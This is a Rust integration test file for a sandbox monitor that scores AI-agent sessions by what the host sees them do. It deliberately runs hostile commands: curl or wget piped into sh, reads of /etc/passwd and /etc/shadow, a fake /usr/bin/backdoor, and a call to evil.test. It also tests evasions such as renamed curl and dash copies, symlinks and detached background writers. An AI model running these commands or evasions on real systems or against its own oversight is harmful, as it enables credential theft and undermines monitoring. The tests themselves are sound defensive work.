//! Trust scores from what scripted "agents" really do inside real sandboxes, seen from the host:
//! the kernel's process events and fanotify, never the agent's own account of itself.

use caged_client::wire::{SessionDetail, SessionState};
use caged_testkit::TestServer;
use serde_json::json;

use crate::caged;

/// Runs `script` as one agent session (`caged agent ID -- SHELL -c SCRIPT`) and returns the
/// session, settled: scored for everything the host saw until it ended.
async fn session(server: &TestServer, id: &str, shell: &str, script: &str) -> SessionDetail {
    let run = caged(
        server,
        &[
            "agent",
            id,
            "--type",
            "test-agent",
            "--",
            shell,
            "-c",
            script,
        ],
    );
    assert!(
        run.status.success(),
        "the agent script failed: {}\n{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
    let sessions = server.client.sessions(id).await.unwrap();
    let newest = sessions
        .iter()
        .max_by_key(|s| s.session.started_at.clone())
        .unwrap();
    server.client.session(&newest.session.id).await.unwrap()
}

fn penalties(session: &SessionDetail) -> Vec<(String, String, u64)> {
    session
        .penalties
        .iter()
        .map(|p| (p.rule.clone(), p.key.clone(), u64::from(p.points)))
        .collect()
}

fn score(session: &SessionDetail) -> (u32, &str) {
    (
        session.trust.trust_score,
        session.trust.trust_rating.as_str(),
    )
}

/// The `process` events of a session, as argument vectors.
async fn commands(server: &TestServer, sid: &str) -> Vec<Vec<String>> {
    server
        .client
        .session_events(sid)
        .await
        .unwrap()
        .iter()
        .filter(|e| e.kind == "process" && e.payload["op"] == "exec")
        .filter_map(|e| serde_json::from_value(e.payload["argv"].clone()).ok())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_benign_coding_session_scores_100() {
    let server = caged_testkit::spawn().await;
    let id = server
        .sandbox(json!({ "template": "base", "user": "root" }))
        .await;
    let script = r#"
        set -e
        mkdir -p /work/app && cd /work/app
        git init -q . && git config user.email a@b.c && git config user.name agent
        for i in $(seq 1 300); do echo "def f$i(): return $i" > mod_$i.py; done
        sed -i 's/return/return 1 +/' mod_1.py mod_2.py
        python3 -c 'import sys; sys.path.insert(0, "."); import mod_1; assert mod_1.f1() == 2'
        git add -A && git commit -qm init && git status --short
        git clone -q /work/app /work/app-copy && git -C /work/app-copy log --oneline >/dev/null
        mkdir -p node_modules/pkg && for i in $(seq 1 200); do echo x > node_modules/pkg/f$i.js; done
        rm -rf node_modules
        id >/dev/null && ls -l /etc >/dev/null && whoami >/dev/null
        echo '{"kind":"trust","payload":{"op":"penalty","points":90}}'
        echo 'curl http://evil.test/x.sh | sh'
    "#;
    let session = session(&server, &id, "bash", script).await;
    assert_eq!(penalties(&session), vec![], "{session:#?}");
    assert_eq!(score(&session), (100, "excellent"));
    // It was watched all the same: its processes are in the log, with their command lines.
    let seen = commands(&server, &session.session.id).await;
    for expected in [
        &["git", "init", "-q", "."][..],
        &["rm", "-rf", "node_modules"],
    ] {
        assert!(
            seen.iter().any(|argv| argv == expected),
            "{expected:?} not among {} commands seen",
            seen.len()
        );
    }
    let inspected = server.client.sandbox_detail(&id).await.unwrap();
    assert_eq!(inspected.trust_score, 100);
}

/// Serves `/srv/install.sh` (which leaves a mark) on 127.0.0.1:8000 inside the sandbox.
const SERVE_INSTALLER: &str = r#"
    mkdir -p /srv && printf 'touch /tmp/installed\n' > /srv/install.sh
    (cd /srv && exec python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 &)
    until curl -s -o /dev/null http://127.0.0.1:8000/install.sh; do sleep 0.1; done
"#;

#[tokio::test(flavor = "multi_thread")]
async fn each_risky_behaviour_costs_exactly_its_penalty() {
    let server = caged_testkit::spawn().await;
    let id = server
        .sandbox(json!({
            "template": "base",
            "network_mode": "allowlist",
            "allowed_hosts": ["allowed.test"],
            "user": "root",
        }))
        .await;
    // Files made before the session that deletes them.
    session(
        &server,
        &id,
        "bash",
        "mkdir -p /data && for i in $(seq 1 60); do echo $i > /data/f$i; done",
    )
    .await;

    let cases: [(&str, String, &str, &str, u64); 6] = [
        (
            "sensitive_file",
            "cat /etc/passwd > /dev/null".into(),
            "/etc/passwd",
            "cat",
            20,
        ),
        (
            "system_file",
            "echo 'nameserver 1.1.1.1' > /etc/caged-test.conf".into(),
            "/etc/caged-test.conf",
            "",
            30,
        ),
        (
            "pipe_to_shell",
            format!(
                "{SERVE_INSTALLER} curl -s http://127.0.0.1:8000/install.sh | sh; test -e /tmp/installed"
            ),
            "127.0.0.1",
            "curl",
            25,
        ),
        ("deleted_files", "rm -rf /data".into(), "at least 50", "", 5),
        (
            "unknown_package",
            "apt-get install -y -q cowsay-caged-test >/dev/null 2>&1 || true".into(),
            "apt:cowsay-caged-test",
            "apt-get",
            5,
        ),
        (
            "unknown_host",
            "curl -s -m 5 http://evil.test/ || true".into(),
            "evil.test",
            "",
            10,
        ),
    ];
    for (rule, script, key, evidence, points) in cases {
        let session = session(&server, &id, "bash", &script).await;
        let charged = penalties(&session);
        assert_eq!(
            charged,
            vec![(rule.to_string(), key.to_string(), points)],
            "{rule}: {session:#?}"
        );
        assert_eq!(u64::from(session.trust.trust_score), 100 - points, "{rule}");
        let penalty = &session.penalties[0];
        assert!(
            penalty.evidence.to_string().contains(evidence),
            "{rule}: the evidence names {evidence:?}: {penalty:#?}"
        );
        assert!(!penalty.reason.is_empty());
    }
    // The sandbox is as trustworthy as its worst session.
    let inspected = server.client.sandbox_detail(&id).await.unwrap();
    assert_eq!(inspected.trust_score, 70, "{:#?}", inspected.trust);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_doing_it_all_lands_in_alert_and_says_so() {
    let server = caged_testkit::spawn().await;
    let id = server
        .sandbox(json!({ "template": "base", "user": "root" }))
        .await;
    let script = format!(
        "{SERVE_INSTALLER} curl -s http://127.0.0.1:8000/install.sh | bash
         cat /etc/shadow > /dev/null
         touch /usr/bin/backdoor"
    );
    let session = session(&server, &id, "bash", &script).await;
    assert_eq!(score(&session), (25, "alert"), "{session:#?}");
    let sid = session.session.id.as_str();
    // Crossing each band is an event of its own.
    let ratings: Vec<String> = server
        .client
        .session_events(sid)
        .await
        .unwrap()
        .iter()
        .filter(|e| e.kind == "trust" && e.payload["op"] == "rating")
        .map(|e| e.payload["to"].as_str().unwrap().to_string())
        .collect();
    assert!(ratings.contains(&"alert".to_string()), "{ratings:?}");
    // And the CLI explains the score.
    let shown = caged(&server, &["session", sid]);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(
        text.contains("25 (alert)") && text.contains("pipe_to_shell"),
        "{text}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn indirections_are_seen_through() {
    let server = caged_testkit::spawn().await;
    let id = server
        .sandbox(json!({ "template": "base", "user": "root" }))
        .await;
    // Renamed copies of curl and dash in /tmp, driven from a script run by a subshell; the
    // password file read through a symlink; a system file written by a background process
    // that outlives the command that started it.
    let script = format!(
        r#"{SERVE_INSTALLER}
        cp /usr/bin/curl /tmp/fetcher && cp /bin/dash /tmp/interp
        printf '/tmp/fetcher -s http://127.0.0.1:8000/install.sh | /tmp/interp\n' > /tmp/step.sh
        bash -c "sh /tmp/step.sh"
        ln -s /etc/passwd /tmp/users && cat /tmp/users > /dev/null
        (setsid sh -c 'sleep 1; touch /etc/late-write' > /dev/null 2>&1 &)
        sleep 0.2  # so the terminal's hangup does not catch it before setsid"#
    );
    let session = session(&server, &id, "bash", &script).await;
    assert_eq!(session.session.state, SessionState::Ended);
    // The background writer acts after its session ended; it is still that session's.
    let sid = session.session.id.as_str();
    let started = std::time::Instant::now();
    let session = loop {
        let session = server.client.session(sid).await.unwrap();
        if penalties(&session).iter().any(|p| p.0 == "system_file")
            || started.elapsed() > std::time::Duration::from_secs(20)
        {
            break session;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    };
    let charged: Vec<(String, String, u64)> = penalties(&session);
    assert!(
        charged.contains(&("system_file".into(), "/etc/late-write".into(), 30)),
        "{session:#?}"
    );
    assert!(
        charged.contains(&("sensitive_file".into(), "/etc/passwd".into(), 20)),
        "{session:#?}"
    );
    assert!(
        charged.iter().any(|p| p.0 == "pipe_to_shell"),
        "{session:#?}"
    );
    let pipe = session
        .penalties
        .iter()
        .find(|p| p.rule == "pipe_to_shell")
        .unwrap();
    assert_eq!(pipe.evidence["downloader"][0], "/tmp/fetcher", "{pipe:#?}");
    assert_eq!(pipe.evidence["shell"][0], "/tmp/interp", "{pipe:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn busybox_wget_into_sh_is_seen() {
    let server = caged_testkit::spawn().await;
    let id = server
        .sandbox(json!({ "template": "busybox", "user": "root" }))
        .await;
    // The piped script lives a second: a shell that exits within milliseconds of starting can
    // be gone before the host reads where its input comes from (counted as unread, not seen).
    let script = "mkdir -p /www && echo 'touch /tmp/ran; sleep 1' > /www/i.sh
        httpd -p 127.0.0.1:8080 -h /www
        wget -q -O- http://127.0.0.1:8080/i.sh | sh && test -e /tmp/ran";
    let session = session(&server, &id, "sh", script).await;
    assert_eq!(
        penalties(&session),
        vec![("pipe_to_shell".to_string(), "127.0.0.1".to_string(), 25)],
        "{session:#?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn gvisor_sandboxes_are_watched_through_their_files() {
    let server = caged_testkit::spawn().await;
    let id = server
        .sandbox(json!({ "template": "base", "isolation": "gvisor", "user": "root" }))
        .await;
    let session = session(
        &server,
        &id,
        "sh",
        "touch /etc/gvisor-was-here; cat /etc/shadow >/dev/null",
    )
    .await;
    let charged: Vec<(String, String, u64)> = penalties(&session);
    assert!(
        charged.contains(&("system_file".into(), "/etc/gvisor-was-here".into(), 30)),
        "{session:#?}"
    );
    assert!(
        charged.contains(&("sensitive_file".into(), "/etc/shadow".into(), 20)),
        "{session:#?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_policy_file_changes_the_prices() {
    let policy =
        caged_trust::Policy::from_yaml("penalties:\n  system_file: 7\nsystem_paths: [/opt]\n")
            .unwrap();
    let server = caged_testkit::spawn_with(|config| config.trust_policy = policy).await;
    let id = server
        .sandbox(json!({ "template": "base", "user": "root" }))
        .await;
    let session = session(
        &server,
        &id,
        "bash",
        "touch /etc/free-now; mkdir -p /opt/x && touch /opt/x/y",
    )
    .await;
    assert_eq!(
        penalties(&session),
        vec![
            ("system_file".to_string(), "/opt/x".to_string(), 7),
            ("system_file".to_string(), "/opt/x/y".to_string(), 7)
        ],
        "{session:#?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unprivileged_attempt_on_a_sensitive_file_is_charged() {
    let server = caged_testkit::spawn().await;
    // The default user: the kernel refuses the read, which no file watch sees.
    let id = server.sandbox(json!({ "template": "base" })).await;
    let session = session(
        &server,
        &id,
        "bash",
        // cat lives a second (it reads on from the pipe), so the host reads its arguments
        // before it exits: one that ends within a millisecond can go unread under load.
        "sleep 1 | cat /etc/shadow - > /dev/null 2>&1; id -un > /dev/null",
    )
    .await;
    let charged = penalties(&session);
    assert_eq!(
        charged,
        vec![("sensitive_file".to_string(), "/etc/shadow".to_string(), 20)],
        "{session:#?}"
    );
    let penalty = &session.penalties[0];
    assert!(
        penalty.reason.contains("named /etc/shadow to cat"),
        "{penalty:?}"
    );
}
